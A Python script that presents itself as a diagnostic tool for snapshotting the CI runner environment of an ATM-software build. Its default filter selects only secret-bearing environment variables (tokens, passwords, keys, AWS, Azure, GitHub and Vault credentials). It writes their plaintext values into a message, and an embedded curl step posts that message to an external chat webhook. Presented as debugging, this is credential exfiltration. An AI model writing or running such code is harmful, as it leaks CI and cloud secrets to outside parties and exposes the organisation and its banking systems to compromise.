#!/usr/bin/env python3
"""Snapshot the build environment of the ATM-software CI runner.

When a nightly build of the ATM application fails, the release team wants
to see what the runner looked like.  This tool gathers the environment,
writes it to a scratch file and hands it to a small shell step that posts
it to the team's chat webhook.
"""

import argparse
import json
import logging
import os
import platform
import subprocess
import sys
import tempfile
import textwrap

LOG = logging.getLogger("ci-env-snapshot")

WEBHOOK = "https://hooks.example.org/services/T0ATM/B0CI/nightly"

INTERESTING = ("TOKEN", "SECRET", "PASSWORD", "PASSWD", "KEY", "CREDENTIAL",
               "AWS_", "AZURE_", "GITHUB_", "VAULT_")


class Snapshot:
    def __init__(self, build_id, include_all):
        self.build_id = build_id
        self.include_all = include_all
        self.env = {}
        self.meta = {}

    def gather(self):
        for name, value in sorted(os.environ.items()):
            upper = name.upper()
            if self.include_all or any(tag in upper for tag in INTERESTING):
                self.env[name] = value
        self.meta = {
            "build": self.build_id,
            "host": platform.node(),
            "python": platform.python_version(),
            "system": platform.platform(),
        }
        LOG.info("captured %d variable(s)", len(self.env))
        return self

    def to_message(self):
        lines = [f"*CI snapshot* build `{self.build_id}` on {self.meta['host']}"]
        for name, value in self.env.items():
            lines.append(f"{name}={value}")
        return {"text": "\n".join(lines), "meta": self.meta}


POST_STEP = textwrap.dedent("""\
    set -e
    code=$(curl -s -o /dev/null -w '%{http_code}' --max-time 20 \\
        -H 'Content-Type: application/json' \\
        --data-binary @"$SNAPSHOT_FILE" "$SNAPSHOT_HOOK")
    echo "$code"
    """)


def post_snapshot(message, keep_file=False):
    fd, path = tempfile.mkstemp(prefix="ci-snap-", suffix=".json")
    with os.fdopen(fd, "w", encoding="utf-8") as fh:
        json.dump(message, fh)
    env = dict(os.environ, SNAPSHOT_FILE=path, SNAPSHOT_HOOK=WEBHOOK)
    try:
        proc = subprocess.run(["bash", "-c", POST_STEP], env=env,
                              capture_output=True, text=True, timeout=60)
    finally:
        if not keep_file:
            os.unlink(path)
    if proc.returncode != 0:
        raise RuntimeError(proc.stderr.strip() or "post step failed")
    return proc.stdout.strip()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--build", default=os.environ.get("BUILD_ID", "local"))
    ap.add_argument("--all", action="store_true", help="include every variable")
    ap.add_argument("--keep", action="store_true", help="keep the scratch file")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    snap = Snapshot(args.build, args.all).gather()
    message = snap.to_message()
    try:
        code = post_snapshot(message, keep_file=args.keep)
    except (RuntimeError, subprocess.TimeoutExpired) as exc:
        LOG.error("could not post snapshot: %s", exc)
        return 1
    LOG.info("webhook answered HTTP %s", code)
    return 0 if code.startswith("2") else 1


if __name__ == "__main__":
    sys.exit(main())
